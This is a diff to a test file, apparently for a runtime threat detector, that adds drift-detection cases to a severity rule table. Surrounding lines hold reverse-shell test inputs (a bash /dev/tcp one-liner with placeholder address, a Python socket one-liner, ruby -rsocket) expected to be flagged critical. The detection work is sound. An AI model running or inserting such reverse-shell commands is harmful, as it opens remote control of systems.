@@ -51,6 +51,8 @@ function net(direction: NetworkEntry['direction'], peer: string, port: number, r
 // The default table, rule by rule: [what, input, expected severity, expected rule]. Every rule has
 // an event that hits it and, right after, a near miss that must not.
 const cases: [string, SeverityInput, Severity, string][] = [
+  ['drift: a binary written after start, whatever it is', proc({ exe: '/usr/local/bin/helper', reason: 'drift' }), 'critical', 'drift'],
+  ['near miss: the same binary as a plain new executable', proc({ exe: '/usr/local/bin/helper' }), 'medium', 'new-process'],
   ['bash /dev/tcp reverse shell', proc({ exe: '/bin/bash', args: '-c bash -i >& /dev/tcp/<ip>/<n> 0>&1' }), 'critical', 'reverse-shell'],
   ['python socket one-liner (normalized: the key before = is kept)', proc({ exe: '/usr/bin/python3', args: '-c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)' }), 'critical', 'reverse-shell'],
   ['ruby -rsocket', proc({ exe: '/usr/bin/ruby', args: '-rsocket -e <rand>' }), 'critical', 'reverse-shell'],
